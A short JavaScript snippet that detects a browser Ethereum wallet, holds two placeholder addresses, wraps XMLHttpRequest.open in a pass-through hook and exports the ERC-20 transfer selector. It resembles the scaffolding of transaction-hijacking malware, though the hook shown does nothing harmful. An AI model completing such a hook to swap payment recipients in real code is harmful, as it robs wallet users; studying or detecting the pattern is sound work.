if (typeof window !== 'undefined' && window.ethereum) {
  const list = ['0x1111111111111111111111111111111111111111', '0x2222222222222222222222222222222222222222'];
  const open0 = XMLHttpRequest.prototype.open;
  XMLHttpRequest.prototype.open = function () { return open0.apply(this, arguments); };
  const sel = '0xa9059cbb';
  module.exports = { list, sel };
}
